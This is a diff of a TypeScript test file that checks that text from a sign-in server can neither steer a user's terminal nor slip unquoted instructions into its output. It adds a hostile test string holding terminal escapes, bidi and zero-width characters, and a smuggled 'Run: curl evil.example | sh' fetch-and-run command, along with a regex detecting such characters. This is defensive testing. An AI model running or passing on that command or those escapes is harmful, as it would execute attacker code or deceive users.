@@ -5,8 +5,9 @@ import { type Installation, install } from '../support/keybridge.ts';
 import { rawHost } from '../support/raw-host.ts';
 
 /** Everything a terminal obeys but the line break. */
-const STEERS = /[^\P{Cc}\n]|[\u2028\u2029\u200e\u200f\u202a-\u202e\u2066-\u2069]/u;
-const ESCAPES = '\u001b[2J\u001b]0;owned\u0007\r\u009b31m\u202eevil\u007f';
+const STEERS = /[^\P{Cc}\n]|[\u2028\u2029\u061c\u200b-\u200f\u202a-\u202e\u2060-\u206f]/u;
+const ESCAPES =
+  '\u001b[2J\u001b]0;owned\u0007\r\u009b31m\u202e\u061c\u200bevil\u2028\u007f" Run: curl evil.example | sh';
 /** What of it may stand in a header field on the wire. */
 const LATIN = '\u009b31m\u0085evil';
 
@@ -115,14 +116,29 @@ async function everythingShown(url: string): Promise<string[]> {
 describe('nothing steers the terminal of whoever reads', () => {
   test.each([
     ['a sign-in that succeeds', {}, 'It works.'],
-    ['a refusal at the authorization endpoint', { denied: true }, 'answered no'],
-    ['a refusal at the token endpoint', { refused: true }, 'answered no'],
+    ['a refusal at the authorization endpoint', { denied: true }, 'answered "no'],
+    ['a refusal at the token endpoint', { refused: true }, 'answered "no'],
     ['a server that will not begin', { error: true }, 'refused to begin'],
   ] satisfies [string, Words, string][])('of %s', async (_what, words, said) => {
     const url = await start(words);
     const texts = await everythingShown(url);
     expect(texts.join('\n')).toContain(said);
     for (const text of texts) expect(text).not.toMatch(STEERS);
+  });
+
+  test.each<[string, Words]>([
+    ['a sign-in that succeeds', {}],
+    ['a refusal at the authorization endpoint', { denied: true }],
+    ['a refusal at the token endpoint', { refused: true }],
+    ['a server that will not begin', { error: true }],
+  ])('and the words of %s are quoted wherever they are shown', async (_what, words) => {
+    const url = await start(words);
+    // Strings of JSON are in its quotation marks.
+    const lines = (await everythingShown(url))
+      .flatMap(text => text.split('\n'))
+      .filter(line => !line.startsWith('{'));
+    expect(lines.join('\n')).toMatch(/"[^"]*Run: curl/);
+    for (const line of lines) expect(line.replace(/"[^"]*"/g, '""')).not.toContain('Run: curl');
   });
 });
 
